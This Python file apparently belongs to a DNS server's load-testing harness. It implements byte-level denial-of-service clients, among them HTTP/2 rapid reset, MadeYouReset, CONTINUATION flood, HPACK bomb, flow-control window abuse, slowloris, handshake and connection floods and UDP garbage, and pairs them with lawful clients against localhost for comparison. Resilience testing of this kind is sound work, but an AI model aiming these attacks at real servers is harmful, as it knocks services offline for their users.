"""Clients that mean harm, and lawful ones of the same rate to compare with.

    attack_clients.py NAME SECONDS RATE dns=PORT dot=PORT doh=PORT

runs one of KINDS as a process of its own, so that it has its own processor time, and prints
what became of it as JSON: `units` done (what one is, the table says), connections `ended` by
the server, those `blocked` because it does not read any more, and `goaway` codes seen.

A kind is a generator of (units, octets) for one connection; the driver keeps a number of
these, opens new ones for those that end, and keeps the rate. Frames are written octet by octet:
a library would not let us.
"""

import collections
import itertools
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

import clients
import wire

HOST, SOURCE = "127.0.0.1", "127.0.0.2"
HOT = "a.hot.example.com"  # in the cache

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW = 4  # a setting

random.seed(4)


class Ended(Exception):
    """The server ended the connection."""


class Blocked(Exception):
    """The server takes no more."""


# ---- octets

def frame(kind, flags, sid, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
            + struct.pack(">I", sid) + payload)


def hpack_string(text):
    """A literal without Huffman code."""
    n = len(text)
    if n < 127:
        return bytes([n]) + text
    head, n = b"\x7f", n - 127
    while n >= 128:
        head, n = head + bytes([n & 127 | 128]), n >> 7
    return head + bytes([n]) + text


def field(name, value):
    return b"\0" + hpack_string(name) + hpack_string(value)


def get_block(name=HOT):
    """The field block of a GET."""
    path = f"{clients.PATH}?dns={clients.b64url(wire.query(name, id=0))}".encode()
    return b"\x82\x87\x01" + hpack_string(b"dns.pith.test") + b"\x04" + hpack_string(path)


GET = get_block()
POST = (b"\x83\x87\x01" + hpack_string(b"dns.pith.test") + b"\x04"
        + hpack_string(clients.PATH.encode())
        + field(b"content-type", clients.MEDIA_TYPE.encode()))


def request(sid, block=GET, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, sid, block)


def setting(number, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", number, value))


def hello(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *s) for s in settings))


def stream_ids():
    return itertools.count(1, 2)


def client_hello():
    context = clients.tls_context(None, ["h2"])
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="dns.pith.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def repeat(units, octets):
    """The same, for ever."""
    while True:
        yield units, octets


def wait_for_the_end():
    return repeat(0, b"")


# ---- connections

class Pace:
    """No more than `rate` units a second, and an end."""

    def __init__(self, rate, seconds):
        self.rate, self.start = rate, time.monotonic()
        self.end, self.taken = self.start + seconds, 0

    @property
    def over(self):
        return time.monotonic() >= self.end

    def take(self, units):
        self.taken += units
        ahead = self.start + self.taken / self.rate - time.monotonic()
        if ahead > 0:
            time.sleep(min(ahead, max(0, self.end - time.monotonic())))


class Link:
    """One connection. What comes is read when it reads at all, for GOAWAY and answers."""

    def __init__(self, address, alpn, source):
        self.buffer, self.http = b"", alpn == "h2"
        self.answers, self.goaway = 0, []
        try:
            self.socket = socket.create_connection(address, 1, (source, 0))
            if alpn:
                context = clients.tls_context(None, [alpn])
                self.socket = context.wrap_socket(self.socket, server_hostname="dns.pith.test")
        except OSError as error:
            raise Ended(str(error)) from None

    def send(self, octets):
        self.socket.settimeout(0.3)
        try:
            self.socket.sendall(octets)
        except TimeoutError:
            raise Blocked from None
        except OSError as error:
            self.look()
            raise Ended(str(error)) from None

    def look(self, timeout=0):
        """Reads what is there."""
        self.socket.settimeout(timeout)
        try:
            while True:
                octets = self.socket.recv(65536)
                if not octets:
                    raise Ended("end of stream")
                self.buffer += octets
                self._parse()
                self.socket.settimeout(0)
        except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            pass
        except OSError as error:
            raise Ended(str(error)) from None

    def _parse(self):
        if self.http:
            while len(self.buffer) >= 9:
                n = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + n:
                    return
                kind, flags, payload = self.buffer[3], self.buffer[4], self.buffer[9:9 + n]
                if kind == GOAWAY:
                    self.goaway.append(int.from_bytes(payload[4:8], "big"))
                self.answers += kind in (DATA, HEADERS) and flags & END_STREAM
                self.buffer = self.buffer[9 + n:]
        else:
            while len(self.buffer) >= 2:
                n = int.from_bytes(self.buffer[:2], "big")
                if len(self.buffer) < 2 + n:
                    return
                self.answers += 1
                self.buffer = self.buffer[2 + n:]

    def wait(self, answers):
        """Until so many answers came."""
        while self.answers < answers:
            self.look(1)

    def close(self):
        self.socket.close()


# ---- HTTP/2

def rapid_reset(_link):
    """HEADERS and RST_STREAM at once (CVE-2023-44487)."""
    yield 0, hello()
    ids = stream_ids()
    while True:
        yield 10, b"".join(request(i) + frame(RST, 0, i, CANCEL)
                           for i in itertools.islice(ids, 10))


def rapid_reset_misses(_link):
    """The same with questions that go upstream and get no answer there."""
    yield 0, hello()
    for i in stream_ids():
        block = get_block(f"drop.r{random.getrandbits(48):x}.example.com")
        yield 1, request(i, block) + frame(RST, 0, i, CANCEL)


def made_you_reset(_link):
    """What makes the server reset the stream itself (CVE-2025-8671)."""
    yield 0, hello()
    wrongs = itertools.cycle((
        lambda i: frame(WINDOW, 0, i, bytes(4)),
        lambda i: frame(DATA, 0, i, b"x"),
        lambda i: frame(HEADERS, END_HEADERS, i, b"\x82"),
        lambda i: frame(WINDOW, 0, i, b"\x7f\xff\xff\xff")))
    ids = stream_ids()
    while True:
        yield 10, b"".join(request(i) + next(wrongs)(i) for i in itertools.islice(ids, 10))


def continuation_flood(_link):
    """A field block without end (CVE-2024-28182)."""
    yield 0, hello() + frame(HEADERS, END_STREAM, 1, GET)
    yield from repeat(10, frame(CONTINUATION, 0, 1, field(b"x-more", b"y" * 20)) * 10)


def hpack_bomb(_link):
    """One field of 4000 octets in the table, then an octet for each time it is repeated."""
    yield 0, hello()
    block = GET + b"\x40" + hpack_string(b"x") + hpack_string(b"y" * 3900) + b"\xbe" * 12000
    for i in stream_ids():
        yield 1, request(i, block)


def settings_flood(_link):
    yield 0, hello()
    yield from repeat(50, setting(INITIAL_WINDOW, 65535) * 50)


def ping_flood(_link):
    yield 0, hello()
    yield from repeat(50, frame(PING, 0, 0, b"pingpong") * 50)


def empty_frames(_link):
    """DATA with nothing in it (CVE-2019-9518)."""
    yield 0, hello() + request(1, POST, END_HEADERS)
    yield from repeat(50, frame(DATA, 0, 1) * 50)


def unknown_frames(_link):
    yield 0, hello()
    yield from repeat(20, (frame(PRIORITY, 0, 3, b"\0\0\0\1\0")
                           + frame(0xbb, 0, 0, b"z" * 100)) * 10)


def zero_window(_link):
    """Asks, and never lets answers out (CVE-2019-9517)."""
    yield 0, hello((INITIAL_WINDOW, 0))
    yield 20, b"".join(request(i) for i in itertools.islice(stream_ids(), 20))
    yield from wait_for_the_end()


def one_byte_windows(_link):
    """Lets answers out an octet at a time (CVE-2019-9511)."""
    yield 0, hello((INITIAL_WINDOW, 1))
    ids = stream_ids()
    while True:
        some = list(itertools.islice(ids, 10))
        yield 10, b"".join(request(i) for i in some)
        for _ in range(20):
            yield 10, b"".join(frame(WINDOW, 0, i, b"\0\0\0\1") for i in some)
        yield 10, b"".join(frame(RST, 0, i, CANCEL) for i in some)


def endless_headers(_link):
    """Blocks of many fields, each request all the server takes and more."""
    yield 0, hello()
    block = GET + b"".join(field(b"x-%d" % i, b"y" * 100) for i in range(140))
    for i in stream_ids():
        yield 1, request(i, block)


def lawful_h2(link):
    """Asks and takes the answers."""
    yield 0, hello()
    ids, asked = stream_ids(), 0
    while True:
        asked += 10
        yield 10, b"".join(request(i) for i in itertools.islice(ids, 10))
        link.wait(asked)


# ---- HTTP/1.1

def h1_endless_headers(_link):
    yield 0, b"GET /dns-query?dns= HTTP/1.1\r\nHost: dns.pith.test\r\n"
    yield from repeat(10, b"X-More: %s\r\n" % (b"y" * 100) * 10)


def h1_pipelining(_link):
    """Requests without end, answers not read."""
    path = f"{clients.PATH}?dns={clients.b64url(wire.query(HOT, id=0))}"
    one = f"GET {path} HTTP/1.1\r\nHost: dns.pith.test\r\n\r\n".encode()
    return repeat(20, one * 20)


# ---- any stream

def slowly(octets):
    """An octet now and then, and never the last one."""
    for i in range(len(octets) - 1):
        yield 1, octets[i:i + 1]
    yield from wait_for_the_end()


def slowloris_dot(_link):
    return slowly(clients.frame(wire.query("slow." + HOT) + bytes(200)))


def slowloris_doh(_link):
    yield 0, hello() + request(1, POST, END_HEADERS)
    yield from slowly(frame(DATA, END_STREAM, 1, bytes(200)))


def slowloris_doh_h1(_link):
    return slowly(b"GET /dns-query?dns=" + b"A" * 200)


def pipelining(_link):
    """Questions without end, answers not read."""
    return repeat(50, clients.frame(wire.query(HOT)) * 50)


def pipelining_misses(_link):
    """Questions that go upstream and get no answer there, as many as are taken."""
    while True:
        yield 5, b"".join(clients.frame(wire.query(
            f"drop.p{random.getrandbits(48):x}.example.com")) for _ in range(5))


def half_open(_link):
    """Half a handshake."""
    octets = client_hello()
    yield 0, octets[:len(octets) // 2]
    yield from wait_for_the_end()


def broken_handshake(_link):
    """A handshake that the server has worked for, and then nonsense."""
    yield 0, client_hello() + b"\x16\x03\x03\0\x04oops" + os.urandom(64)
    yield from wait_for_the_end()


def connections(_link):
    """One octet: before that the kernel need not tell the server of it."""
    yield 0, b"\0"
    yield from wait_for_the_end()


def one_question(link):
    """A connection for one question."""
    yield 0, clients.frame(wire.query(HOT))
    link.wait(1)


def connect_only(_link):
    """A handshake for nothing."""
    yield 0, b""


def lawful_dot(link):
    asked = 0
    while True:
        asked += 10
        yield 10, clients.frame(wire.query(HOT)) * 10
        link.wait(asked)


# ---- UDP, which has no connections

def udp_garbage():
    good = wire.query(HOT)
    kinds = (lambda: os.urandom(random.randrange(1, 600)),
             lambda: good[:random.randrange(len(good))],
             lambda: good[:2] + bytes([good[2] | 0x80]) + good[3:],  # a response
             lambda: good[:4] + os.urandom(8) + good[12:],           # counts
             lambda: good + os.urandom(20),
             lambda: b"")
    return random.choice(kinds)()


def udp_lawful():
    return wire.query(HOT)


# ---- how each is run

Kind = collections.namedtuple("Kind", "make front alpn rate links reads sources lawful",
                              defaults=(1000, 1, True, 1, "lawful_h2"))

# A unit is a request, frame, octet, connection or datagram; the rate is units a second.
KINDS = {
    "lawful_h2": Kind(lawful_h2, "doh", "h2"),
    "lawful_dot": Kind(lawful_dot, "dot", "dot"),
    "lawful_handshakes": Kind(one_question, "dot", "dot"),
    "lawful_connections": Kind(one_question, "dns", None),
    "lawful_udp": Kind(udp_lawful, "dns", "udp"),
    "rapid_reset": Kind(rapid_reset, "doh", "h2", 2000),
    "rapid_reset_misses": Kind(rapid_reset_misses, "doh", "h2", 200, 4),
    "made_you_reset": Kind(made_you_reset, "doh", "h2", 2000),
    "continuation_flood": Kind(continuation_flood, "doh", "h2", 2000),
    "hpack_bomb": Kind(hpack_bomb, "doh", "h2", 200),
    "settings_flood": Kind(settings_flood, "doh", "h2", 5000),
    "settings_flood_unread": Kind(settings_flood, "doh", "h2", 5000, reads=False),
    "ping_flood": Kind(ping_flood, "doh", "h2", 5000),
    "ping_flood_unread": Kind(ping_flood, "doh", "h2", 5000, reads=False),
    "empty_frames": Kind(empty_frames, "doh", "h2", 5000),
    "unknown_frames": Kind(unknown_frames, "doh", "h2", 5000),
    "zero_window": Kind(zero_window, "doh", "h2", 2000, 30),
    "one_byte_windows": Kind(one_byte_windows, "doh", "h2", 2000, 5),
    "endless_headers": Kind(endless_headers, "doh", "h2", 200),
    "h1_endless_headers": Kind(h1_endless_headers, "doh", "http/1.1", 1000),
    "h1_pipelining": Kind(h1_pipelining, "doh", "http/1.1", 5000, 2, False),
    "slowloris_dot": Kind(slowloris_dot, "dot", "dot", 500, 60, lawful="lawful_dot"),
    "slowloris_tcp": Kind(slowloris_dot, "dns", None, 500, 60, lawful="lawful_dot"),
    "slowloris_doh": Kind(slowloris_doh, "doh", "h2", 500, 60),
    "slowloris_doh_h1": Kind(slowloris_doh_h1, "doh", "http/1.1", 500, 60),
    "pipelining_dot": Kind(pipelining, "dot", "dot", 5000, 2, False, lawful="lawful_dot"),
    "pipelining_tcp": Kind(pipelining, "dns", None, 5000, 2, False, lawful="lawful_dot"),
    "pipelining_misses": Kind(pipelining_misses, "dot", "dot", 200, 4, lawful="lawful_dot"),
    "half_open_handshakes": Kind(half_open, "dot", None, 1000, 200, sources=20,
                                 lawful="lawful_connections"),
    "broken_handshakes": Kind(broken_handshake, "doh", None, 100, 8,
                              lawful="lawful_handshakes"),
    "handshake_flood": Kind(connect_only, "dot", "dot", 100, lawful="lawful_handshakes"),
    "connection_flood": Kind(connections, "dns", None, 500, 100, lawful="lawful_connections"),
    "connection_flood_of_many": Kind(connections, "dns", None, 1000, 400, sources=50,
                                     lawful="lawful_connections"),
    "udp_garbage": Kind(udp_garbage, "dns", "udp", 5000, lawful="lawful_udp"),
}


PER_CONNECTION = (connections, connect_only, one_question, half_open, broken_handshake)
AGAIN_PER_S = 20  # those that were cut off come again so often


def run_udp(kind, ports, pace, result):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((SOURCE, 0))
        sock.connect((HOST, ports[kind.front]))
        sock.setblocking(False)
        while not pace.over:
            pace.take(10)
            for _ in range(10):
                try:
                    sock.send(kind.make())
                    result["units"] += 1
                except BlockingIOError:
                    result["blocked"] += 1
            try:
                while True:
                    sock.recv(65535)
            except BlockingIOError:
                pass


def source(kind, number):
    """An address of the attacker; none has more than its share where there are many."""
    return f"127.0.9.{1 + number % kind.sources}" if kind.sources > 1 else SOURCE


def run_streams(kind, ports, pace, result):
    links, number = [None] * kind.links, itertools.count()
    for rounds in itertools.count():
        busy = False
        for i, entry in enumerate(links):
            if pace.over and rounds > 1:  # by then all have begun, and were looked at
                return
            link = entry and entry[0]
            try:
                if not entry:
                    if kind.make in PER_CONNECTION:
                        result["units"] += 1
                    elif rounds > 0:  # connections are not what this is about
                        pace.take(kind.rate // AGAIN_PER_S)
                    pace.take(1)
                    busy = True
                    link = Link((HOST, ports[kind.front]), kind.alpn,
                                source(kind, next(number)))
                    links[i] = entry = (link, kind.make(link))
                units, octets = next(entry[1])
                if octets:
                    pace.take(units)
                    link.send(octets)
                    result["units"] += units
                    busy = True
                if kind.reads:
                    link.look()
                continue
            except StopIteration:
                pass
            except Ended:
                result["ended"] += 1
            except Blocked:
                result["blocked"] += 1
            links[i] = None
            if link:
                result["goaway"] += link.goaway
                link.close()
        if not busy:
            time.sleep(0.01)


def run(name, seconds, ports, rate=None):
    kind = KINDS[name]
    result = {"units": 0, "ended": 0, "blocked": 0, "goaway": []}
    pace = Pace(rate or kind.rate, seconds)
    (run_udp if kind.alpn == "udp" else run_streams)(kind, ports, pace, result)
    result["goaway"] = dict(collections.Counter(result["goaway"]))
    return result


if __name__ == "__main__":
    wanted = {k: int(v) for k, v in (x.split("=") for x in sys.argv[4:])}
    print(json.dumps(run(sys.argv[1], float(sys.argv[2]), wanted, float(sys.argv[3]) or None)))
